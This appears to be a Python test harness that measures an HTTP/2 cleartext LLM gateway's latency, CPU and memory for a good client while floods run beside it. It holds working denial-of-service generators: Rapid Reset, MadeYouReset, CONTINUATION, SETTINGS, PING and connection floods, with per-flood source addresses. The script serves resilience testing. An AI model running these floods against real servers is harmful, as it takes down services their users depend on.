#!/usr/bin/env python3
"""Measures what a good client notices of a flood beside it.

A gateway that allows HTTP/2 without TLS (`listeners.proxy.h2c`) must listen at ADDRESS, with a provider that
answers at once. First the good client is alone, then beside each flood in turn, all in one run. Every flood comes
again as soon as it is cut off. Each has an address of its own, since the gateway remembers the one before.
"""

import argparse
import asyncio
import ipaddress
import json
import multiprocessing
import os
import struct
import time
import urllib.request

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def chat(model, directives):
    message = [{"role": "user", "content": "Hello"}]
    return json.dumps({"model": model, "user": directives, "stream": False, "messages": message}).encode()


def head(method, path, key):
    """A header list that takes only names from the table (RFC 7541)."""
    text = lambda name, value: name + bytes([len(value)]) + value  # noqa: E731
    return b"".join([
        method, b"\x86", text(b"\x04", path), text(b"\x01", b"localhost"), text(b"\x0f\x10", b"application/json"),
        text(b"\x0f\x08", b"Bearer " + key),
    ])


def floods(model, key):
    body = chat(model, "tokens=8")
    post, get = head(b"\x83", b"/v1/chat/completions", key), head(b"\x82", b"/v1/models", key)

    def ask(stream):
        return frame(1, 4, stream, post) + frame(0, 1, stream, body)

    return {
        "rapid reset": (b"", lambda n: ask(2 * n + 1) + frame(3, 0, 2 * n + 1, struct.pack(">I", 8))),
        "made you reset": (b"", lambda n: ask(2 * n + 1) + frame(8, 0, 2 * n + 1, bytes(4))),
        "continuation": (frame(1, 1, 1, get), lambda n: frame(9, 0, 1, b"\0\x08x-%06d\x01v" % (n % 10**6))),
        "settings": (b"", lambda n: frame(4, 0, 0, struct.pack(">HI", 4, n % 65536))),
        "ping": (b"", lambda n: frame(6, 0, 0, struct.pack(">Q", n))),
        # Nothing is sent: connections alone.
        "connections": None,
    }


async def attack(host, port, source, flood, until):
    """Returns how many connections were made, and how many frames were sent on them."""
    made = sent = 0
    while time.time() < until:
        writer = None
        try:
            reader, writer = await asyncio.open_connection(host, port, local_addr=source and (source, 0))
            made += 1
            if flood is None:
                continue
            begin, unit = flood
            writer.write(PREFACE + frame(4, 0, 0) + begin)
            gone = asyncio.ensure_future(drain(reader))
            n = 0
            while not gone.done() and time.time() < until:
                writer.write(b"".join(unit(n + i) for i in range(64)))
                n, sent = n + 64, sent + 64
                await writer.drain()
                await asyncio.sleep(0)
            gone.cancel()
        except OSError:
            # The gateway was first.
            await asyncio.sleep(0)
        finally:
            if writer:
                # No farewell: whoever floods has no ports to wait for.
                writer.transport.abort()
    return made, sent


async def drain(reader):
    try:
        while await reader.read(65536):
            pass
    except OSError:
        pass


def attacker(host, port, source, nice, name, model, key, until, results):
    async def all_of_them():
        flood = floods(model, key)[name]
        return await asyncio.gather(*(attack(host, port, source, flood, until) for _ in range(4)))

    os.nice(nice)
    done = asyncio.run(all_of_them())
    results.put((sum(made for made, _ in done), sum(sent for _, sent in done)))


async def good(host, port, model, key, rate, seconds):
    """Requests at a steady rate, each timed from when it was due: waiting for those before it counts."""
    body = chat(model, "tokens=8")
    request = (b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
               b"Authorization: Bearer %s\r\nContent-Length: %d\r\n\r\n" % (key, len(body))) + body
    times, failures, free = [], 0, asyncio.Queue()
    for _ in range(16):
        free.put_nowait(None)

    async def one(due):
        nonlocal failures
        connection = await free.get()
        try:
            reader, writer = connection or await asyncio.open_connection(host, port)
            writer.write(request)
            top = await reader.readuntil(b"\r\n\r\n")
            length = next(line for line in top.lower().split(b"\r\n") if line.startswith(b"content-length:"))
            await reader.readexactly(int(length.split(b":")[1]))
            if top.split(b" ")[1] != b"200":
                raise OSError(top)
            times.append(time.perf_counter() - due)
            free.put_nowait(None if b"connection: close" in top.lower() else (reader, writer))
        except (OSError, EOFError, StopIteration):
            failures += 1
            free.put_nowait(None)

    begin, tasks = time.perf_counter(), []
    for n in range(int(rate * seconds)):
        due = begin + n / rate
        await asyncio.sleep(max(0, due - time.perf_counter()))
        tasks.append(asyncio.ensure_future(one(due)))
    await asyncio.gather(*tasks)
    times.sort()
    at = lambda q: 1000 * times[min(len(times) - 1, int(q * len(times)))]  # noqa: E731
    return f"{len(times)} served, {failures} failed, p50 {at(0.5):.1f} ms, p99 {at(0.99):.1f} ms, most {times[-1] * 1000:.1f} ms"


def counted(metrics):
    """Connections that the gateway has cut off, and those that it has closed at once."""
    if metrics is None:
        return 0, 0
    with urllib.request.urlopen(f"http://{metrics}/metrics") as page:
        lines = page.read().decode().splitlines()
    count = lambda name: sum(float(line.rsplit(" ", 1)[1]) for line in lines if line.startswith(name))  # noqa: E731
    return count("sluicegate_connections_aborted_total{"), count("sluicegate_connections_refused_total{")


def used(pid):
    """Seconds of a core that the gateway has taken."""
    if pid is None:
        return 0
    with open(f"/proc/{pid}/stat", encoding="ascii") as stat:
        fields = stat.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def memory(pid):
    if pid is None:
        return ""
    with open(f"/proc/{pid}/status", encoding="ascii") as status:
        rows = dict(line.split(":", 1) for line in status)
    return f"; memory {int(rows['VmRSS'].split()[0]) // 1024} MiB, at most {int(rows['VmHWM'].split()[0]) // 1024} MiB"


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("address")
    parser.add_argument("--model", default="sim-1")
    parser.add_argument("--key", default="none")
    parser.add_argument("--rate", type=float, default=100)
    parser.add_argument("--seconds", type=float, default=15)
    parser.add_argument("--pid", type=int, help="the gateway's process, for its memory")
    parser.add_argument("--metrics", help="the address of the gateway's metrics, for what it has counted")
    parser.add_argument("--source", help="the first flood's address, as in 127.0.0.2; the others have those that follow")
    parser.add_argument("--nice", type=int, default=0, help="how far the floods stand back for the CPU")
    parser.add_argument("--only", help="this flood alone")
    parser.add_argument("--alone", action="store_true", help="no flood of ours: something else is beside it")
    options = parser.parse_args()
    host, port = options.address.rsplit(":", 1)
    key = options.key.encode()
    measure = lambda: asyncio.run(good(host, port, options.model, key, options.rate, options.seconds))  # noqa: E731
    print(f"alone: {measure()}{memory(options.pid)}", flush=True)
    for number, name in enumerate([] if options.alone else floods(options.model, key)):
        if options.only not in (None, name):
            continue
        source = options.source and str(ipaddress.ip_address(options.source) + number)
        (cut_before, closed_before), used_before = counted(options.metrics), used(options.pid)
        results = multiprocessing.Queue()
        until = time.time() + options.seconds + 1
        other = multiprocessing.Process(target=attacker, args=(
            host, port, source, options.nice, name, options.model, key, until, results))
        other.start()
        time.sleep(0.5)
        said = measure()
        made, sent = results.get()
        other.join()
        cut, closed = counted(options.metrics)
        print(f"{name}: {said}; {made} connections, {sent} units; {cut - cut_before:.0f} cut off, "
              f"{closed - closed_before:.0f} closed at once; {used(options.pid) - used_before:.2f} s of CPU"
              f"{memory(options.pid)}", flush=True)
    if not options.alone:
        print(f"alone again: {measure()}{memory(options.pid)}", flush=True)


if __name__ == "__main__":
    main()
